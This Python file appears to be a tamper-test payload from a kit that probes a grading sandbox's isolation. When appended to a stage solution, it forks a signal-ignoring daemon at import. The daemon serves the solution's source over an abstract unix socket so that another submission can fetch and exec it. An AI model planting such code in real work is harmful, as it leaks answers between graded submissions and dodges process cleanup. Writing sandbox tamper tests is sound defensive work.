"""[attnkit-tamper] plant_abstract_socket -- family (c), persistence channel: an abstract unix socket.

Append to a correct stage module (attacker: the solution of stage k, here s08). At import it
double-forks a ``setsid`` daemon (SIGTERM/SIGHUP/SIGINT... ignored, blockable signals blocked) that
listens on the abstract unix socket "\\0atk-plant-<module>" (no file: nothing to delete) and hands
every client an 8-byte length and this module's source (payload cut off, plus the stage modules it
imports, zlib). It exits by itself after 120 s. ``scavenge.py`` connects and execs what it gets.

Old design: abstract sockets belong to the network namespace, which the warm zygote keeps; but the
daemon is a process of the zygote's pid namespace, and the zygote (its init) kills -1 everything
when the worker ends: expected NOT to leak. A new design must make sure no daemon outlives the
submission (and that the network namespace is not shared).
"""


def _atk_plant_abstract_socket(module, path):
    import os
    import signal
    import socket
    import struct
    import sys
    import time

    def blob():
        """This module's source and the stage modules it imports (payloads cut off), compressed."""
        import json
        import re
        import zlib

        cut = '"""' + "[attnkit-tamper]"
        folder = os.path.dirname(os.path.abspath(path))

        def source(name):
            with open(os.path.join(folder, name + ".py")) as handle:
                text = handle.read()
            return text.split(cut)[0] if cut in text else text

        sources, pending = {module: source(module)}, [module]
        while pending:
            for dep in re.findall(r"^\s*(?:from|import)\s+(s\d\d_\w+)", sources[pending.pop()], re.M):
                if dep not in sources:
                    sources[dep] = source(dep)
                    pending.append(dep)
        return zlib.compress(json.dumps({"main": module, "sources": sources}).encode(), 9)

    data = blob()
    data = struct.pack("<Q", len(data)) + data
    server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    try:
        server.bind(f"\0atk-plant-{module}")
    except OSError:
        server.close()
        return  # already served
    server.listen(16)
    sys.stdout.flush()
    sys.stderr.flush()
    first = os.fork()
    if first:
        server.close()
        os.waitpid(first, 0)
        return
    try:
        os.setsid()
        if os.fork() == 0:
            for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT, signal.SIGPIPE, signal.SIGQUIT,
                           signal.SIGUSR1, signal.SIGUSR2, signal.SIGALRM):
                signal.signal(number, signal.SIG_IGN)
            signal.pthread_sigmask(signal.SIG_BLOCK, set(signal.valid_signals()) - {signal.SIGKILL, signal.SIGSTOP})
            deadline = time.monotonic() + 120.0
            server.settimeout(1.0)
            while time.monotonic() < deadline:
                try:
                    client, _ = server.accept()
                except OSError:
                    continue
                try:
                    client.sendall(data)
                except OSError:
                    pass
                client.close()
    finally:
        os._exit(0)


try:
    _atk_plant_abstract_socket(__name__, __file__)
except Exception:  # noqa: BLE001
    pass
